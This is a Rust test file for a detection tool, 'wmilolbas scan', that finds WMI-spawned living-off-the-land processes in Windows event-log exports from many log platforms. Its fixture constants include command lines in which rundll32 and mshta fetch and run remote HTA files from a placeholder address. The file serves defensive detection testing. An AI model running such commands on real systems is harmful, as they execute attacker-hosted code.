//! `wmilolbas scan` on every export layout: the samples in
//! `tests/data/layouts/` (each folder's README says where they come from).
//! For each family: the detection, the lineage chain where the layout
//! carries GUIDs or PIDs, the fields (host, user, PID, time, command line),
//! and the benign record read with its fields.

use serde_json::Value;

use crate::util::layout_json::{field, row, rows, scan};
use crate::util::*;

/// The chain every schema-built sample holds, as one layout writes it.
struct Chain<'a> {
    file: &'a str,
    /// Extra arguments (`--timezone`).
    args: &'a [&'a str],
    /// Events read: the chain's four, and the other event when there is one.
    events: u64,
    host: &'a str,
    user: &'a str,
    /// `process_id` of rundll32, cmd, mshta, notepad, as the layout writes them.
    pids: [&'a str; 4],
    /// Their `parent_process_id`s.
    ppids: [&'a str; 4],
    /// Their `_time`s.
    times: [&'a str; 4],
    /// rundll32's and its parent's GUIDs, when the layout has them.
    guids: Option<(&'a str, &'a str)>,
    /// Command lines as the layout writes them (HELK lower-cases them).
    lower: bool,
}

const NAMES: [&str; 4] = ["rundll32.exe", "cmd.exe", "mshta.exe", "notepad.exe"];
const CMDS: [&str; 4] = [
    "rundll32.exe url.dll,OpenURL http://198.51.100.7/a.hta",
    "cmd.exe /Q /c run.bat",
    "mshta.exe http://198.51.100.7/b.hta",
    "notepad.exe C:\\Users\\alice\\notes.txt",
];
const PARENTS: [&str; 4] = ["WmiPrvSE.exe", "WmiPrvSE.exe", "cmd.exe", "explorer.exe"];
const DEC: [&str; 4] = ["4100", "4200", "4300", "4400"];
const DEC_P: [&str; 4] = ["2864", "2864", "4200", "1000"];
const HEX: [&str; 4] = ["0x1004", "0x1068", "0x10cc", "0x1130"];
const HEX_P: [&str; 4] = ["0xb30", "0xb30", "0x1068", "0x3e8"];
const MS: [&str; 4] = [
    "1709633701.100",
    "1709633702.200",
    "1709633702.300",
    "1709633703.400",
];
const US: [&str; 4] = [
    "1709633701.100000",
    "1709633702.200000",
    "1709633702.300000",
    "1709633703.400000",
];
const HOST: &str = "WS01.corp.example";
const USER: &str = "CORP\\alice";
const GUIDS: (&str, &str) = (
    "{6b1f0c2a-43ad-65e6-9e0c-000000002b00}",
    "{6b1f0c2a-43ac-65e6-8a0b-000000002b00}",
);
const BARE_GUIDS: (&str, &str) = (
    "6B1F0C2A-43AD-65E6-9E0C-000000002B00",
    "6B1F0C2A-43AC-65E6-8A0B-000000002B00",
);

impl Chain<'_> {
    fn sysmon(file: &str) -> Chain<'_> {
        Chain {
            file,
            args: &[],
            events: 5,
            host: HOST,
            user: USER,
            pids: DEC,
            ppids: DEC_P,
            times: MS,
            guids: Some(GUIDS),
            lower: false,
        }
    }

    fn security(file: &str) -> Chain<'_> {
        Chain {
            pids: HEX,
            ppids: HEX_P,
            guids: None,
            ..Chain::sysmon(file)
        }
    }

    /// The detections, the chain, every field of the rows, the benign row.
    fn check(&self) {
        let mut args = vec!["--mode", "annotate", "--lineage"];
        args.extend_from_slice(self.args);
        let r = scan(self.file, &args);
        assert_eq!(r.code, 0, "{}: {}", self.file, r.stderr);
        assert_eq!(
            r.stderr.lines().last().unwrap(),
            format!(
                "wmilolbas scan: 1 file, {} events read (4 process creations), 2 detections \
                 (1 through a shell)",
                self.events
            ),
            "{}: {}",
            self.file,
            r.stderr
        );
        let rows = rows(&r);
        assert_eq!(rows.len(), 4, "{}", self.file);
        // The search protocol's multivalue companions are not scan's output.
        for row in &rows {
            let keys = row.as_object().unwrap().keys();
            assert!(keys.into_iter().all(|k| !k.starts_with("__mv_")), "{row}");
        }
        let case = |s: &str| {
            if self.lower {
                s.to_lowercase()
            } else {
                s.to_string()
            }
        };
        for (i, name) in NAMES.iter().enumerate() {
            let row = row(&rows, name);
            let what = format!("{} {name}", self.file);
            assert_eq!(field(row, "dest"), self.host, "{what}");
            assert_eq!(field(row, "user"), self.user, "{what}");
            assert_eq!(field(row, "process_id"), self.pids[i], "{what}");
            assert_eq!(field(row, "parent_process_id"), self.ppids[i], "{what}");
            assert_eq!(field(row, "_time"), self.times[i], "{what}");
            assert_eq!(field(row, "process"), case(CMDS[i]), "{what}");
            assert!(
                field(row, "parent_process_name").eq_ignore_ascii_case(PARENTS[i]),
                "{what}"
            );
            let reason = ["process_name", "", "lineage", ""][i];
            assert_eq!(field(row, "match_reason"), reason, "{what}");
        }
        let mshta = row(&rows, "mshta.exe");
        assert!(
            field(mshta, "lineage_path").eq_ignore_ascii_case("WmiPrvSE.exe > cmd.exe > mshta.exe"),
            "{mshta}"
        );
        assert_eq!(
            mshta["annotations.mitre_attack.mitre_technique_id"],
            serde_json::json!(["T1047", "T1059.003"])
        );
        if let Some((guid, parent)) = self.guids {
            let rundll32 = row(&rows, "rundll32.exe");
            assert_eq!(field(rundll32, "process_guid"), guid, "{}", self.file);
            assert_eq!(
                field(rundll32, "parent_process_guid"),
                parent,
                "{}",
                self.file
            );
        }
        // Without lineage, the direct child only.
        let r = scan(self.file, self.args);
        assert_eq!(r.code, 0, "{}", r.stderr);
        let plain = self::rows(&r);
        assert_eq!(plain.len(), 1, "{}", self.file);
        assert_eq!(field(&plain[0], "process_name"), case("rundll32.exe"));
    }
}

#[test]
fn ecs_search_response_kibana_csv_and_agent_ndjson_read_the_chain() {
    // The endpoint, not the WEC collector in host.name.
    Chain::sysmon("ecs/winlogbeat8_sysmon_search.json").check();
    Chain::sysmon("ecs/kibana_discover.csv").check();
    Chain {
        pids: DEC,
        ppids: DEC_P,
        times: US,
        ..Chain::security("ecs/elastic_agent_security_4688.ndjson")
    }
    .check();
}

#[test]
fn winlogbeat_5_6_reads_event_data_never_the_logging_process_id() {
    // Top-level process_id is 1840 (Sysmon): never the event's PID.
    Chain::sysmon("winlogbeat56/winlogbeat6_sysmon.jsonl").check();
}

#[test]
fn helk_hits_read_the_chain_and_the_real_car_hit() {
    Chain {
        host: "ws01.corp.example",
        user: "corp\\alice",
        guids: Some(BARE_GUIDS),
        lower: true,
        ..Chain::sysmon("helk/helk_sysmon_hits.json")
    }
    .check();
    // The real hit: WmiPrvSE starts PowerShell (not a LOLBAS binary).
    let r = scan(
        "helk/car_CAR-2014-04-003_mordor_01.json",
        &["--mode", "annotate"],
    );
    assert_eq!(r.code, 0, "{}", r.stderr);
    let rows = rows(&r);
    let ps = row(&rows, "powershell.exe");
    assert_eq!(field(ps, "dest"), "hfdc01.shire.com");
    // CAR's copy doubled the backslashes in the decoded values.
    assert_eq!(field(ps, "user"), "shire\\\\mmidge");
    assert_eq!(field(ps, "parent_process_name"), "wmiprvse.exe");
    assert_eq!(field(ps, "process_id"), "904");
    assert_eq!(field(ps, "parent_process_id"), "2864");
    assert_eq!(
        field(ps, "process_guid"),
        "905CC552-43AC-5C91-0000-0010B44BB703"
    );
    assert_eq!(field(ps, "_time"), "1553023916.940");
    assert_eq!(field(ps, "match_reason"), "");
}

#[test]
fn powershell_csv_and_json_read_message_text_and_positional_properties() {
    // 5.1's #TYPE line; the fields from Message; the Sysmon 3 time is local.
    Chain {
        args: &["--timezone", "-05:00"],
        ..Chain::sysmon("powershell/get_winevent_sysmon_ps51.csv")
    }
    .check();
    // 4688 Message text only; TimeCreated local, to the second.
    Chain {
        args: &["--timezone", "-05:00"],
        times: ["1709633701", "1709633702", "1709633702", "1709633703"],
        ..Chain::security("powershell/get_winevent_security_ps7.csv")
    }
    .check();
    // One pretty array; Message empty: the Properties by position.
    Chain {
        events: 4,
        ..Chain::sysmon("powershell/convertto_json_depth3.json")
    }
    .check();
    Chain::sysmon("powershell/foreach_convertto_json_compress.jsonl").check();
}

#[test]
fn powershell_logging_process_id_is_not_the_events() {
    let r = scan(
        "powershell/get_winevent_sysmon_ps51.csv",
        &["--mode", "annotate"],
    );
    assert!(rows(&r).iter().all(|r| field(r, "process_id") != "1840"));
}

#[test]
fn evtxecmd_csv_and_json_read_payload_not_the_logging_process_id() {
    // The ProcessId column is 1840, the Sysmon service. Its times are UTC:
    // --timezone does not shift them.
    for file in [
        "evtxecmd/evtxecmd_sysmon.csv",
        "evtxecmd/evtxecmd_sysmon.json",
    ] {
        Chain {
            args: &["--timezone", "-05:00"],
            ..Chain::sysmon(file)
        }
        .check();
    }
}

#[test]
fn hayabusa_timelines_read_details_and_count_each_record_once() {
    Chain {
        guids: Some(BARE_GUIDS),
        ..Chain::sysmon("hayabusa/hayabusa_chain_standard.csv")
    }
    .check();
    // The real timelines: 26 rows of 17 records; record 336 four times.
    for file in [
        "hayabusa/hayabusa_4.0.0_timeline_standard.csv",
        "hayabusa/hayabusa_4.0.0_timeline_standard.jsonl",
        "hayabusa/hayabusa_4.0.0_timeline_standard.json",
    ] {
        let r = scan(file, &[]);
        assert_eq!(r.code, 0, "{}", r.stderr);
        let lines: Vec<&str> = r.stderr.lines().collect();
        assert_eq!(
            lines,
            [
                format!(
                    "wmilolbas: {file}: 9 rows repeat a record already read (hayabusa timeline \
                     writes one row per record and matching rule); each record was counted once"
                ),
                "wmilolbas scan: 1 file, 17 events read (13 process creations), 3 detections"
                    .into()
            ]
        );
        let rows = rows(&r);
        let names: Vec<&str> = rows.iter().map(|r| field(r, "process_name")).collect();
        assert_eq!(
            names,
            ["rundll32.exe", "rundll32.exe", "explorer.exe"],
            "{file}"
        );
        let first = &rows[0];
        assert_eq!(field(first, "dest"), "MSEDGEWIN10");
        assert_eq!(field(first, "user"), "MSEDGEWIN10\\IEUser");
        assert_eq!(field(first, "process_id"), "4180");
        assert_eq!(field(first, "parent_process_id"), "1628");
        assert_eq!(field(first, "_time"), "1579034690.348");
        assert_eq!(
            field(first, "process_guid"),
            "747F3D96-2842-5E1E-0000-00100C417A00"
        );
        assert_eq!(
            field(first, "process"),
            "rundll32 url.dll,FileProtocolHandler ms-browser://"
        );
    }
}

#[test]
fn hayabusa_4688_rows_keep_the_creator_as_the_parent() {
    let r = scan(
        "hayabusa/hayabusa_4.0.0_timeline_standard.csv",
        &["--mode", "annotate"],
    );
    let rows = rows(&r);
    let calc = row(&rows, "calc.exe");
    assert_eq!(field(calc, "process_id"), "1060");
    assert_eq!(field(calc, "parent_process_id"), "2792");
    assert_eq!(field(calc, "user"), "EXAMPLE\\WIN-77LTAPHIQ1R$");
    assert_eq!(field(calc, "dest"), "WIN-77LTAPHIQ1R.example.corp");
}

#[test]
fn chainsaw_arrays_and_csv_read_the_records() {
    Chain {
        guids: Some(BARE_GUIDS),
        ..Chain::sysmon("chainsaw/chainsaw_search_chain.json")
    }
    .check();
    // hunt --json / --csv: 4 detections of the research rule, 3 of ours.
    for file in [
        "chainsaw/chainsaw_2.16.4_hunt.json",
        "chainsaw/chainsaw_2.16.4_hunt_sigma.csv",
    ] {
        let r = scan(file, &[]);
        assert_eq!(
            r.stderr, "wmilolbas scan: 1 file, 4 events read (4 process creations), 3 detections\n",
            "{file}"
        );
        let rows = rows(&r);
        assert_eq!(field(&rows[1], "process_id"), "3412", "{file}");
        assert_eq!(field(&rows[1], "parent_process_id"), "1632", "{file}");
        assert_eq!(field(&rows[1], "_time"), "1579034803.232", "{file}");
        assert_eq!(
            field(&rows[1], "process_guid"),
            "747F3D96-28B3-5E1E-0000-00101DF17B00",
            "{file}"
        );
    }
    // search --json of every Sysmon 1 record, benign ones included.
    let r = scan(
        "chainsaw/chainsaw_2.16.4_search_sysmon1.json",
        &["--mode", "annotate"],
    );
    assert_eq!(
        r.stderr,
        "wmilolbas scan: 1 file, 11 events read (11 process creations), 3 detections\n"
    );
    let sysmon = rows(&r);
    let notepad = &sysmon[2];
    assert_eq!(field(notepad, "process_name"), "notepad.exe");
    assert_eq!(field(notepad, "parent_process_name"), "cmd.exe");
    assert_eq!(field(notepad, "process_id"), "676");
    assert_eq!(field(notepad, "parent_process_id"), "1568");
    // 4688 version 1: hex PIDs, the creator as the parent.
    let r = scan(
        "chainsaw/chainsaw_2.16.4_search_4688.json",
        &["--mode", "annotate"],
    );
    let security = rows(&r);
    let calc = row(&security, "calc.exe");
    assert_eq!(field(calc, "process_id"), "0x424");
    assert_eq!(field(calc, "parent_process_id"), "0xae8");
    assert_eq!(field(calc, "user"), "EXAMPLE\\WIN-77LTAPHIQ1R$");
    assert_eq!(field(calc, "_time"), "1552947349.676748");
}

#[test]
fn velociraptor_rows_read_eventdata_objects_and_json_cells() {
    for file in [
        "velociraptor/evtxhunter.csv",
        "velociraptor/evtxhunter.jsonl",
    ] {
        Chain {
            guids: Some(BARE_GUIDS),
            ..Chain::sysmon(file)
        }
        .check();
    }
    // The real parse_evtx row: cmd starts whoami (benign), epoch SystemTime.
    let r = scan(
        "velociraptor/velociraptor_sigma_golden.json",
        &["--mode", "annotate"],
    );
    assert_eq!(r.code, 0, "{}", r.stderr);
    let rows = rows(&r);
    let whoami = row(&rows, "whoami.exe");
    assert_eq!(field(whoami, "dest"), "MSEDGEWIN10");
    assert_eq!(field(whoami, "user"), "NT AUTHORITY\\SYSTEM");
    assert_eq!(field(whoami, "process_id"), "4456");
    assert_eq!(field(whoami, "parent_process_id"), "1516");
    assert_eq!(field(whoami, "process"), "whoami");
    assert_eq!(field(whoami, "_time"), "1590282834.117");
    // A real EvtxHunter row of another event: no process creations, said.
    let r = scan("velociraptor/velociraptor_evtxhunter_4104_golden.json", &[]);
    assert_eq!(r.code, 0);
    assert_eq!(
        r.stderr.lines().next().unwrap(),
        "wmilolbas: velociraptor/velociraptor_evtxhunter_4104_golden.json: no process \
         creations (Velociraptor): it holds 1 event: Microsoft-Windows-PowerShell/Operational \
         4104 (1)"
    );
}

#[test]
fn splunk_raw_exports_read_xml_and_classic_text() {
    // XmlWinEventLog _raw in a CSV export, the export endpoint's JSON lines
    // (a preview row and the lastrow line are not events), REST results.
    for file in [
        "splunk/xmlwineventlog_export.csv",
        "splunk/xmlwineventlog_export.json",
        "splunk/xmlwineventlog_results.json",
    ] {
        let r = scan(file, &[]);
        assert_eq!(
            r.stderr,
            "wmilolbas scan: 1 file, 13 events read (13 process creations), 4 detections\n",
            "{file}"
        );
        let rows = rows(&r);
        assert_eq!(field(&rows[0], "dest"), "MSEDGEWIN10", "{file}");
        assert_eq!(field(&rows[0], "process_id"), "4180", "{file}");
        // Splunk's _time wins over the event's own (rank 0).
        assert_eq!(field(&rows[0], "_time"), "1579034690.353", "{file}");
    }
    // Classic WinEventLog: 4688 text; host + PID link the chain.
    Chain::security("splunk/wineventlog_classic_export.csv").check();
    // tstats: no _time, firstTime read.
    Chain {
        events: 4,
        guids: None,
        ..Chain::sysmon("splunk/tstats_firsttime.csv")
    }
    .check();
}

#[test]
fn nxlog_syslog_lines_and_ce_records_read_the_event_pid() {
    Chain::sysmon("nxlog/nxlog_ee_sysmon_syslog.log").check();
    // CE dropped the EventData ProcessId (its ProcessID is the logging
    // process): read from Message.
    Chain {
        events: 4,
        ..Chain::sysmon("nxlog/nxlog_ce_sysmon.jsonl")
    }
    .check();
    // The real OTRF records, as JSON lines and wrapped in syslog: the same.
    let a = scan(
        "nxlog/otrf_empire_wmic_add_user_backdoor_subset.jsonl",
        &["--mode", "annotate"],
    );
    let b = scan("nxlog/otrf_empire_wmic_syslog.log", &["--mode", "annotate"]);
    assert_eq!(a.code, 0, "{}", a.stderr);
    let strip = |r: &Run| -> Vec<Value> {
        rows(r)
            .into_iter()
            .map(|mut v| {
                v["source"] = Value::Null;
                v
            })
            .collect()
    };
    assert_eq!(strip(&a), strip(&b));
    assert_eq!(a.stderr.lines().last(), b.stderr.lines().last());
    let rows = rows(&a);
    let net = &rows[0];
    assert_eq!(field(net, "process_name"), "net.exe");
    assert_eq!(field(net, "process_id"), "7768");
    assert_eq!(field(net, "parent_process_name"), "WmiPrvSE.exe");
    assert_eq!(field(net, "dest"), "WORKSTATION6.theshire.local");
    assert_eq!(field(net, "user"), "THESHIRE\\pgustavo");
    // 4688: the creator's PID is the parent's, never ExecutionProcessID.
    let n4688 = &rows[2];
    assert_eq!(field(n4688, "process_id"), "0x1e58");
    assert_eq!(field(n4688, "parent_process_id"), "0xf70");
}

#[test]
fn azure_records_envelope_of_securityevent_rows() {
    Chain {
        times: US,
        ..Chain::security("azure/securityevent_records.json")
    }
    .check();
}
